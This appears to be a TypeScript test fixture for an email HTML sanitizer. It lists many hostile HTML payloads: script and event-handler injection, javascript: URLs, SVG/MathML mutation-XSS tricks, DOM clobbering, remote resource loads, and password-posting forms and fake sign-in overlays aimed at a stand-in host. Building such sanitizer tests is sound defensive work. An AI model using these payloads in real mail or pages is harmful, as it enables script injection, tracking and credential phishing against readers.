/** What a mail may try in order to run something, to send something, or to stand over the page. `E` is an address elsewhere. */
const E = 'https://elsewhere.example'
const RUN = "console.log('ran');top.ran='ran'"

export const HOSTILE: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><script src="${E}/a.js"></script>`,
  handlers: `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onmouseover="${RUN}" style="width:9999px">x</div>`,
  'addresses that run': `<a href="javascript:${RUN}">a</a><a href=" java&#10;script:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a><a href="vbscript:x">d</a>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="${E}/s.png"/><use href="${E}/u.svg#a"/><animate attributeName=href values="javascript:${RUN}"/><foreignObject><iframe src="${E}/f"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></style></mglyph></table></mtext></math>`,
  'styles that load': `<style>@import "${E}/i.css";body{background:url(${E}/b.png)}@font-face{font-family:x;src:url(${E}/f.woff)}*{font-family:x}</style><div style="background:url('${E}/c.png')">x</div><div style="background-image:u\\72l(${E}/d.png)">y</div><div style="list-style:image-set('${E}/e.png' 1x)">z</div><div style="--a:url(${E}/g.png);background:var(--a)">v</div><table background="${E}/t.png"><td background="${E}/u.png">w</td></table>`,
  'styles that lie over': `<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in again</div>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${E}/r"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  forms: `<form action="${E}/p" method="post"><input name="password" autofocus><button>Go</button></form><isindex action="${E}"><button formaction="${E}/q">x</button>`,
  base: `<base href="${E}/" target="_top"><a href="evil">x</a><img src="b.png">`,
  frames: `<iframe src="${E}/i"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><frameset><frame src="${E}/fr"></frameset><object data="${E}/o"></object><embed src="${E}/em"><portal src="${E}/po"></portal>`,
  links: `<link rel="stylesheet" href="${E}/l.css"><link rel="prefetch" href="${E}/pf"><link rel="dns-prefetch" href="${E}"><link rel="preload" as="image" href="${E}/pl.png">`,
  media: `<video src="${E}/v.mp4" poster="${E}/v.png" autoplay></video><audio src="${E}/a.mp3" autoplay></audio><picture><source srcset="${E}/s1.png"><img srcset="${E}/s2.png 2x" src="${E}/s3.png"></picture><input type="image" src="${E}/in.png">`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'mutation by form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  'mutation by title': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><template><img src=x onerror=${RUN}></template><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'mutation by depth': `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style><img src=x onerror=${RUN}>"></svg>${'</div>'.repeat(600)}`,
  comments: `<!--[if mso]><img src="${E}/mso.png"><![endif]--><!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]>`,
  clobbering: `<img name="body" id="document"><a id="location" name="location" href="${E}">x</a><form name="parentNode"><input name="attributes"><input name="childNodes"></form>`,
  'ends of its frame': `"></iframe></body></html><script>${RUN}</script><img src="${E}/after.png">`,
  'a picture that is itself': `<img src="cid:loop"><img src="cid:__proto__"><img src="cid:%E0%A4%A"><img src="cid:svg">`,
}

/** Pictures as a mail may have them, of which one is none. */
export const PICTURES: Readonly<Record<string, string>> = {
  loop: 'cid:loop',
  svg: `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${E}/x"/></svg>`)}`,
}
